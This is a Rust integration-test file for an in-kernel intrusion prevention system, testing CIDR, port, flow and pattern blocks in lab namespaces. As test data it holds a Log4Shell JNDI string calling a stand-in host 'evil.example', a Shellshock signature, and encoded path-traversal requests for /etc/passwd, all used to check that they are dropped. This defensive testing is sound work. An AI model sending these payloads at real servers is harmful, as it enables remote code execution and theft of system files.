//! Live tests of in-kernel enforcement: the real TC program in IPS (and IDS)
//! mode attached on the lab server's interface, real traffic, and blocks set
//! through `vigil::enforce::Enforcer`. They need root, as CI has.

mod support;

use std::{
    net::IpAddr,
    path::Path,
    thread,
    time::{Duration, Instant},
};

use support::{LabGuard, assert_no_vigil_programs, in_netns::InNetnsCapture, serial, support_dir};
use vigil::{
    capture::{CaptureConfig, PacketEvent},
    enforce::{
        BlockSet, Cidr, EnforceErrorKind, EnforceLimits, FlowTuple, Mode, Pattern, Protocol, Side,
        Verdict,
    },
    lab::Side as LabSide,
};

const SERVER_PORT: u16 = 9000;

fn attach(lab: &LabGuard, mode: Mode) -> InNetnsCapture {
    let mut config = CaptureConfig::new(lab.lab.iface(LabSide::Server));
    config.enforce.mode = mode;
    InNetnsCapture::start(&lab.lab.netns(LabSide::Server), config)
}

/// Whether one ping from `side` to `dst` gets an answer within a second.
fn ping(lab: &LabGuard, side: LabSide, dst: IpAddr) -> bool {
    lab.lab
        .command(side, &["ping", "-c", "1", "-W", "1", &dst.to_string()])
        .output()
        .expect("ping")
        .status
        .success()
}

fn dropped_with(events: &[PacketEvent], reason: &str, sid: u32) -> usize {
    events
        .iter()
        .filter(|e| e.drop.is_some_and(|d| d.reason == reason && d.sid == sid))
        .count()
}

/// Starts the recording server on the server side and waits until it listens.
fn start_record_server(lab: &LabGuard, log: &Path, http: bool) -> support::KillOnDrop {
    let script = support_dir().join("record_server.py");
    let port = SERVER_PORT.to_string();
    let mut argv = vec![
        "python3",
        script.to_str().unwrap(),
        &port,
        log.to_str().unwrap(),
    ];
    if http {
        argv.push("http");
    }
    let server = lab.spawn(LabSide::Server, &argv);
    for _ in 0..100 {
        if lab
            .exec(LabSide::Server, &["ss", "-Htln"])
            .contains(&format!(":{SERVER_PORT}"))
        {
            return server;
        }
        thread::sleep(Duration::from_millis(50));
    }
    panic!("record server did not start");
}

/// Lines of the server's log received from client port `peer_port`.
fn received_from(log: &Path, peer_port: u16) -> Vec<String> {
    let prefix = format!("{peer_port} ");
    std::fs::read_to_string(log)
        .unwrap_or_default()
        .lines()
        .filter(|l| l.starts_with(&prefix))
        .map(str::to_string)
        .collect()
}

fn wait_until(timeout: Duration, mut cond: impl FnMut() -> bool) -> bool {
    let deadline = Instant::now() + timeout;
    while Instant::now() < deadline {
        if cond() {
            return true;
        }
        thread::sleep(Duration::from_millis(50));
    }
    cond()
}

/// A CIDR block on the client's address drops its traffic both ways (its
/// requests at the server's ingress, the server's at egress), over IPv4 and
/// IPv6; a reload without the block restores it.
#[test]
fn cidr_block_drops_both_ways_and_a_reload_restores() {
    let _serial = serial();
    let lab = LabGuard::up("ve-cidr");
    let (cli4, srv4) = (lab.lab.ipv4(LabSide::Client), lab.lab.ipv4(LabSide::Server));
    let (cli6, srv6) = (lab.lab.ipv6(LabSide::Client), lab.lab.ipv6(LabSide::Server));
    let mut capture = attach(&lab, Mode::Ips);
    assert!(ping(&lab, LabSide::Client, srv4), "baseline ping");

    let mut set = BlockSet::default();
    set.block_cidr(Side::Src, Cidr::from(cli4), 7001)
        .block_cidr(Side::Dst, Cidr::from(cli4), 7002)
        .block_cidr(Side::Src, Cidr::from(cli6), 7003);
    capture.enforcer.replace(&set).unwrap();
    assert_eq!(capture.enforcer.generation(), 1);
    assert!(
        !ping(&lab, LabSide::Client, srv4),
        "client -> server dropped"
    );
    assert!(
        !ping(&lab, LabSide::Server, cli4),
        "server -> client dropped"
    );
    assert!(
        !ping(&lab, LabSide::Client, srv6),
        "IPv6 client -> server dropped"
    );
    // Longest prefix: a wider block elsewhere does not unblock anything, and
    // an unrelated block is not consulted for this traffic.
    capture
        .enforcer
        .block_cidr(Side::Src, "192.0.2.0/24".parse().unwrap(), 7004)
        .unwrap();
    assert!(!ping(&lab, LabSide::Client, srv4));

    // The reload: an empty set replaces the blocks atomically.
    capture.enforcer.replace(&BlockSet::default()).unwrap();
    assert_eq!(capture.enforcer.cidr_count(), 0);
    assert!(ping(&lab, LabSide::Client, srv4), "restored after reload");
    assert!(ping(&lab, LabSide::Server, cli4), "restored both ways");
    assert!(ping(&lab, LabSide::Client, srv6), "IPv6 restored");

    // Incremental updates work on the generation in force.
    capture
        .enforcer
        .block_cidr(Side::Src, "10.77.0.0/24".parse().unwrap(), 7005)
        .unwrap();
    assert!(!ping(&lab, LabSide::Client, srv4), "subnet block");
    assert!(
        capture
            .enforcer
            .unblock_cidr(Side::Src, "10.77.0.0/24".parse().unwrap())
            .unwrap()
    );
    assert!(ping(&lab, LabSide::Client, srv4), "unblocked");
    // Families never mix: all of IPv6 blocked leaves IPv4 alone.
    let all_v6: Cidr = "::/0".parse().unwrap();
    capture
        .enforcer
        .block_cidr(Side::Src, all_v6, 7006)
        .unwrap();
    assert!(
        ping(&lab, LabSide::Client, srv4),
        "::/0 does not cover IPv4"
    );
    assert!(!ping(&lab, LabSide::Client, srv6), "::/0 covers IPv6");
    capture.enforcer.unblock_cidr(Side::Src, all_v6).unwrap();

    let (events, summary) = capture.stop();
    assert!(
        dropped_with(&events, "cidr_src", 7001) >= 1,
        "ingress drops recorded"
    );
    assert!(
        dropped_with(&events, "cidr_dst", 7002) >= 1,
        "egress drops recorded"
    );
    assert!(
        dropped_with(&events, "cidr_src", 7003) >= 1,
        "IPv6 drops recorded"
    );
    assert!(
        dropped_with(&events, "cidr_src", 7005) >= 1,
        "subnet drops recorded"
    );
    let c = &summary.counters;
    assert_eq!(
        c.dropped_cidr as usize,
        events.iter().filter(|e| e.drop.is_some()).count()
    );
    assert_eq!(c.packets_seen, c.records_emitted + c.records_lost);
    assert_eq!(c.records_lost, 0);
    drop(lab);
    assert_no_vigil_programs();
}

/// A flow verdict drops the rest of that flow, both directions, while a new
/// connection between the same hosts works.
#[test]
fn flow_verdict_drops_the_rest_of_the_flow_only() {
    let _serial = serial();
    let lab = LabGuard::up("ve-flow");
    let log = tempfile::NamedTempFile::new().unwrap().into_temp_path();
    let _server = start_record_server(&lab, &log, false);
    let mut capture = attach(&lab, Mode::Ips);
    let (cli, srv) = (lab.lab.ipv4(LabSide::Client), lab.lab.ipv4(LabSide::Server));
    let client = support_dir().join("line_client.py");
    let line_client = |src_port: u16| {
        lab.spawn(
            LabSide::Client,
            &[
                "python3",
                client.to_str().unwrap(),
                &srv.to_string(),
                &SERVER_PORT.to_string(),
                &src_port.to_string(),
                "100",
                "0.1",
            ],
        )
    };

    let _first = line_client(41000);
    assert!(
        wait_until(Duration::from_secs(10), || received_from(&log, 41000).len()
            >= 5),
        "the first flow never got going"
    );
    let flow = FlowTuple::tcp(cli, 41000, srv, SERVER_PORT);
    capture
        .enforcer
        .set_flow_verdict(&flow, Verdict::Drop, 7101)
        .unwrap();
    // Whatever was already in flight lands within a moment; then nothing.
    thread::sleep(Duration::from_millis(300));
    let at_verdict = received_from(&log, 41000).len();
    thread::sleep(Duration::from_millis(1500));
    assert_eq!(
        received_from(&log, 41000).len(),
        at_verdict,
        "the server kept receiving the dropped flow"
    );

    let _second = line_client(41001);
    assert!(
        wait_until(Duration::from_secs(10), || received_from(&log, 41001).len()
            >= 5),
        "a new connection must not be affected"
    );
    let (events, summary) = capture.stop();
    let dropped: Vec<&PacketEvent> = events.iter().filter(|e| e.drop.is_some()).collect();
    assert!(!dropped.is_empty());
    for e in &dropped {
        let d = e.drop.unwrap();
        assert_eq!((d.reason, d.sid), ("flow", 7101));
        let ports = (e.src_port, e.dst_port);
        assert!(
            ports == (41000, SERVER_PORT) || ports == (SERVER_PORT, 41000),
            "{e}"
        );
    }
    assert_eq!(summary.counters.dropped_flow as usize, dropped.len());
    drop(lab);
    assert_no_vigil_programs();
}

/// In IDS mode the same blocks and verdicts drop nothing.
#[test]
fn ids_mode_drops_nothing() {
    let _serial = serial();
    let lab = LabGuard::up("ve-ids");
    let (cli, srv) = (lab.lab.ipv4(LabSide::Client), lab.lab.ipv4(LabSide::Server));
    let mut capture = attach(&lab, Mode::Ids);
    let mut set = BlockSet::default();
    set.block_cidr(Side::Src, Cidr::from(cli), 7201)
        .block_cidr(Side::Dst, Cidr::from(cli), 7202);
    capture.enforcer.replace(&set).unwrap();
    let icmp = FlowTuple {
        protocol: 1,
        src: cli,
        src_port: 0,
        dst: srv,
        dst_port: 0,
    };
    capture
        .enforcer
        .set_flow_verdict(&icmp, Verdict::Drop, 7203)
        .unwrap();
    assert!(ping(&lab, LabSide::Client, srv));
    assert!(ping(&lab, LabSide::Server, cli));
    let (events, summary) = capture.stop();
    assert!(events.iter().all(|e| e.drop.is_none()));
    assert!(
        events.iter().any(|e| e.protocol == 1),
        "pings were captured"
    );
    assert_eq!(summary.counters.dropped(), 0);
    drop(lab);
    assert_no_vigil_programs();
}

/// Runs `http_client.py` from the client side; returns its output lines.
fn http_client(lab: &LabGuard, src_port: u16, timeout: &str, values: &[&str]) -> Vec<String> {
    let script = support_dir().join("http_client.py");
    let srv = lab.lab.ipv4(LabSide::Server).to_string();
    let port = SERVER_PORT.to_string();
    let src = src_port.to_string();
    let mut argv = vec![
        "python3",
        script.to_str().unwrap(),
        &srv,
        &port,
        &src,
        timeout,
    ];
    argv.extend_from_slice(values);
    lab.exec(LabSide::Client, &argv)
        .lines()
        .map(str::to_string)
        .collect()
}

const ATTACK: &str = "${jndi:ldap://evil.example/a}";

/// A request whose header carries a pattern never reaches the server process,
/// while benign requests before it on the same connection and on other
/// connections succeed; the drop is recorded with the pattern and sid.
#[test]
fn pattern_in_a_header_never_reaches_the_server() {
    let _serial = serial();
    let lab = LabGuard::up("ve-pat");
    let log = tempfile::NamedTempFile::new().unwrap().into_temp_path();
    let _server = start_record_server(&lab, &log, true);
    let mut capture = attach(&lab, Mode::Ips);
    let mut set = BlockSet::default();
    set.block_pattern(Pattern::new("/etc/passwd", 7300))
        .block_pattern(Pattern::new("${jndi:", 7301))
        .block_pattern(Pattern::new("() { :;};", 7302));
    capture.enforcer.replace(&set).unwrap();
    assert_eq!(capture.enforcer.pattern_count(), 3);

    let out = http_client(&lab, 42000, "2", &["benign-1", ATTACK, "never-sent"]);
    assert_eq!(
        out,
        ["ok", "timeout"],
        "benign first, then the attack is stuck"
    );
    let got = received_from(&log, 42000).join("\n");
    assert!(got.contains("benign-1"), "{got}");
    assert!(
        !got.contains("jndi"),
        "the server received the attack: {got}"
    );

    let out = http_client(&lab, 42001, "2", &["benign-2", "benign-3"]);
    assert_eq!(out, ["ok", "ok"], "another connection is unaffected");
    assert_eq!(received_from(&log, 42001).len(), 2);

    let (events, summary) = capture.stop();
    let dropped: Vec<&PacketEvent> = events.iter().filter(|e| e.drop.is_some()).collect();
    assert!(!dropped.is_empty());
    for e in &dropped {
        let d = e.drop.unwrap();
        assert_eq!(
            (d.reason, d.sid, d.pattern),
            ("pattern", 7301, Some(1)),
            "{e}"
        );
        assert_eq!(e.src_port, 42000);
        assert!(String::from_utf8_lossy(&e.payload).contains(ATTACK));
    }
    // The first transmission and at least one retransmission.
    assert!(dropped.len() >= 2, "{} drops", dropped.len());
    assert_eq!(summary.counters.dropped_pattern as usize, dropped.len());
    drop(lab);
    assert_no_vigil_programs();
}

/// A drop rule's `http.uri` pattern also stops a request that spells it
/// with percent escapes or backslashes (user space decodes the URI before
/// matching, so the kernel must find every spelling), on its first packet:
/// the server never sees it, while a request for a neighbouring path passes.
#[test]
fn percent_encoded_uri_never_reaches_the_server() {
    let _serial = serial();
    let lab = LabGuard::up("ve-uri");
    let log = tempfile::NamedTempFile::new().unwrap().into_temp_path();
    let _server = start_record_server(&lab, &log, true);
    let mut capture = attach(&lab, Mode::Ips);
    let mut set = BlockSet::default();
    set.block_pattern(Pattern::new("/etc/passwd", 7350).in_decoded_uri());
    capture.enforcer.replace(&set).unwrap();

    for (port, path) in [
        (42100, "/%65tc/%70asswd"),
        (42101, "/cgi-bin/..%2F..%2Fetc%2Fpasswd"),
        (42102, "\\etc%5Cpasswd"),
        (42104, "/etc/./passwd"),
        (42105, "//etc//.%2Fpasswd"),
    ] {
        let out = http_client(&lab, port, "2", &["benign", &format!("path={path}")]);
        assert_eq!(out, ["ok", "timeout"], "{path}: the attack is stuck");
        let got = received_from(&log, port).join("\n");
        assert!(got.contains("benign"), "{got}");
        assert!(
            !got.contains("passwd") && !got.contains("asswd"),
            "the server received {path}: {got}"
        );
    }
    let out = http_client(
        &lab,
        42103,
        "2",
        &["path=/etc/%70assw0rd", "path=/etc", "path=/etc/.passwd"],
    );
    assert_eq!(out, ["ok", "ok", "ok"], "near misses pass");

    let (events, summary) = capture.stop();
    for port in [42100, 42101, 42102, 42104, 42105] {
        assert!(
            events.iter().any(|e| e.src_port == port
                && e.drop
                    .is_some_and(|d| (d.reason, d.sid) == ("pattern", 7350))),
            "no pattern drop recorded for client port {port}"
        );
    }
    assert!(
        events
            .iter()
            .all(|e| e.src_port != 42103 || e.drop.is_none())
    );
    assert!(summary.counters.dropped_pattern >= 5);
    drop(lab);
    assert_no_vigil_programs();
}

/// A kernel pattern hit that user space does not confirm is released with an
/// allow verdict: the retransmission passes and later packets of the flow
/// skip the automaton; the release is counted.
#[test]
fn an_unconfirmed_pattern_hit_is_released() {
    let _serial = serial();
    let lab = LabGuard::up("ve-rel");
    let log = tempfile::NamedTempFile::new().unwrap().into_temp_path();
    let _server = start_record_server(&lab, &log, true);
    let mut capture = attach(&lab, Mode::Ips);
    let mut set = BlockSet::default();
    set.block_pattern(Pattern::nocase("${jndi:", 7401));
    capture.enforcer.replace(&set).unwrap();

    let client = thread::scope(|s| {
        let client = s.spawn(|| http_client(&lab, 42100, "10", &[ATTACK, "after"]));
        let hit = capture
            .wait_for(Duration::from_secs(10), |e| e.drop.is_some())
            .expect("the kernel dropped the request");
        assert_eq!(hit.drop.unwrap().sid, 7401);
        // User space's full rule check says no: release the flow.
        let flow = FlowTuple::tcp(
            lab.lab.ipv4(LabSide::Client),
            42100,
            lab.lab.ipv4(LabSide::Server),
            SERVER_PORT,
        );
        capture.enforcer.release_flow(&flow, 7401).unwrap();
        client.join().unwrap()
    });
    assert_eq!(client, ["ok", "ok"], "the retransmission passed");
    let got = received_from(&log, 42100).join("\n");
    assert!(got.contains("jndi"), "{got}");
    assert_eq!(capture.enforcer.releases(), 1);
    let (_, summary) = capture.stop();
    assert!(summary.counters.dropped_pattern >= 1);
    assert!(
        summary.counters.pattern_released >= 2,
        "{:?}",
        summary.counters
    );
    drop(lab);
    assert_no_vigil_programs();
}

/// Whether a TCP connection from the client to the server's `port` opens
/// within a second.
fn tcp_connects(lab: &LabGuard, port: u16) -> bool {
    let code = format!(
        "import socket\nsocket.create_connection(('{}', {port}), timeout=1).close()",
        lab.lab.ipv4(LabSide::Server)
    );
    lab.lab
        .command(LabSide::Client, &["python3", "-c", &code])
        .output()
        .expect("python")
        .status
        .success()
}

/// Port blocks drop by (protocol, port, side); rule sets larger than the
/// load-time limits are refused with a capacity error and change nothing.
#[test]
fn port_blocks_and_capacity_limits() {
    let _serial = serial();
    let lab = LabGuard::up("ve-port");
    let log = tempfile::NamedTempFile::new().unwrap().into_temp_path();
    let _server = start_record_server(&lab, &log, false);
    let mut config = CaptureConfig::new(lab.lab.iface(LabSide::Server));
    config.enforce.mode = Mode::Ips;
    config.enforce.limits = EnforceLimits {
        cidrs: 2,
        ports: 2,
        dfa_states: 16,
        dfa_transitions: 256,
        ..EnforceLimits::default()
    };
    let mut capture = InNetnsCapture::start(&lab.lab.netns(LabSide::Server), config);
    assert!(tcp_connects(&lab, SERVER_PORT), "baseline");

    capture
        .enforcer
        .block_port(Protocol::Tcp, SERVER_PORT, Side::Dst, 7501)
        .unwrap();
    assert!(!tcp_connects(&lab, SERVER_PORT), "destination port blocked");
    // The same port as a UDP or a source-port block does not match.
    capture
        .enforcer
        .unblock_port(Protocol::Tcp, SERVER_PORT, Side::Dst)
        .unwrap();
    capture
        .enforcer
        .block_port(Protocol::Udp, SERVER_PORT, Side::Dst, 7502)
        .unwrap();
    capture
        .enforcer
        .block_port(Protocol::Tcp, SERVER_PORT, Side::Src, 7503)
        .unwrap();
    // A source-port block drops the server's replies (SYN-ACK at egress).
    assert!(
        !tcp_connects(&lab, SERVER_PORT),
        "source port blocked on replies"
    );
    capture
        .enforcer
        .unblock_port(Protocol::Tcp, SERVER_PORT, Side::Src)
        .unwrap();
    assert!(
        tcp_connects(&lab, SERVER_PORT),
        "UDP block leaves TCP alone"
    );

    let third = capture
        .enforcer
        .block_port(Protocol::Tcp, 1, Side::Dst, 1)
        .and_then(|_| capture.enforcer.block_port(Protocol::Tcp, 2, Side::Dst, 1));
    assert_eq!(third.unwrap_err().kind(), EnforceErrorKind::Capacity);

    let generation = capture.enforcer.generation();
    let mut too_many = BlockSet::default();
    for host in 1..=3u8 {
        too_many.block_cidr(Side::Src, format!("192.0.2.{host}").parse().unwrap(), 1);
    }
    let err = capture.enforcer.replace(&too_many).unwrap_err();
    assert_eq!(err.kind(), EnforceErrorKind::Capacity);
    assert!(err.to_string().contains("3 CIDR blocks (source)"), "{err}");
    let mut big_dfa = BlockSet::default();
    big_dfa.block_pattern(Pattern::new("a-pattern-longer-than-sixteen-states", 1));
    let err = capture.enforcer.replace(&big_dfa).unwrap_err();
    assert_eq!(err.kind(), EnforceErrorKind::Capacity, "{err}");
    assert_eq!(capture.enforcer.generation(), generation, "nothing changed");
    assert_eq!(capture.enforcer.port_count(), 2);

    let (events, summary) = capture.stop();
    assert!(dropped_with(&events, "port", 7501) >= 1);
    assert!(dropped_with(&events, "port", 7503) >= 1);
    assert_eq!(dropped_with(&events, "port", 7502), 0);
    assert_eq!(
        summary.counters.dropped_port as usize,
        events.iter().filter(|e| e.drop.is_some()).count()
    );
    drop(lab);
    assert_no_vigil_programs();
}

/// The raw record path (`run_records`): records arrive undecoded, a dropped
/// one carries its reason and sid in the header, and the accounting holds.
#[test]
fn raw_records_carry_the_drop_fields() {
    use sensor_common::{RecordHeader, enforce::reason, record::status};
    let _serial = serial();
    let lab = LabGuard::up("ve-raw");
    let (cli, srv) = (lab.lab.ipv4(LabSide::Client), lab.lab.ipv4(LabSide::Server));
    let netns = lab.lab.netns(LabSide::Server);
    let mut config = CaptureConfig::new(lab.lab.iface(LabSide::Server));
    config.enforce.mode = Mode::Ips;
    let (ready_tx, ready_rx) = std::sync::mpsc::channel();
    let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
    let reader = thread::spawn(move || {
        vigil::lab::join_netns(&netns).unwrap();
        let mut capture = vigil::capture::KernelCapture::attach(&config).unwrap();
        ready_tx.send(capture.enforcer().unwrap()).unwrap();
        let mut headers = Vec::new();
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        let summary = rt
            .block_on(capture.run_records(
                |bytes: &[u8]| {
                    headers.push(RecordHeader::read_from(bytes).unwrap());
                    true
                },
                async move {
                    let _ = stop_rx.await;
                },
            ))
            .unwrap();
        (headers, summary)
    });
    let mut enforcer = ready_rx.recv_timeout(Duration::from_secs(60)).unwrap();
    enforcer
        .block_cidr(Side::Src, Cidr::from(cli), 7601)
        .unwrap();
    assert!(!ping(&lab, LabSide::Client, srv));
    let _ = stop_tx.send(());
    let (headers, summary) = reader.join().unwrap();
    let dropped: Vec<&RecordHeader> = headers
        .iter()
        .filter(|h| h.status & status::DROPPED != 0)
        .collect();
    assert!(!dropped.is_empty());
    for h in &dropped {
        assert_eq!((h.drop_reason, h.sid), (reason::CIDR_SRC, 7601));
    }
    assert_eq!(summary.records_received as usize, headers.len());
    assert_eq!(summary.counters.records_emitted, summary.records_received);
    drop(lab);
    assert_no_vigil_programs();
}

/// A pattern split across two TCP segments is still found: the automaton
/// resumes on the second segment where it stopped on the first, so the
/// segment completing the pattern never reaches the server.
#[test]
fn a_pattern_split_across_segments_is_dropped() {
    let _serial = serial();
    let lab = LabGuard::up("ve-split");
    let log = tempfile::NamedTempFile::new().unwrap().into_temp_path();
    let _server = start_record_server(&lab, &log, true);
    let mut capture = attach(&lab, Mode::Ips);
    let mut set = BlockSet::default();
    set.block_pattern(Pattern::new("${jndi:", 7701));
    capture.enforcer.replace(&set).unwrap();
    let code = format!(
        "import socket, time\n\
         s = socket.socket()\n\
         s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n\
         s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)\n\
         s.bind(('0.0.0.0', 42200))\n\
         s.connect(('{}', {SERVER_PORT}))\n\
         s.sendall(b'GET / HTTP/1.1\\r\\nHost: lab\\r\\nX-Data: $' + b'{{jn')\n\
         time.sleep(0.3)\n\
         s.sendall(b'di:ldap://evil/a}}\\r\\n\\r\\n')\n\
         s.settimeout(2)\n\
         try:\n    print(s.recv(100))\n\
         except socket.timeout:\n    print('timeout')\n",
        lab.lab.ipv4(LabSide::Server)
    );
    let out = lab.exec(LabSide::Client, &["python3", "-c", &code]);
    assert_eq!(out.trim(), "timeout", "the request must not be answered");
    let got = received_from(&log, 42200).join("\n");
    assert!(got.contains("X-Data: ${jn"), "the first half passed: {got}");
    assert!(
        !got.contains("di:ldap"),
        "the completing segment was delivered: {got}"
    );
    let (events, _) = capture.stop();
    let dropped: Vec<&PacketEvent> = events.iter().filter(|e| e.drop.is_some()).collect();
    assert!(!dropped.is_empty());
    for e in dropped {
        assert_eq!(e.drop.unwrap().sid, 7701);
        assert!(e.payload.starts_with(b"di:ldap"), "{e}");
    }
    drop(lab);
    assert_no_vigil_programs();
}
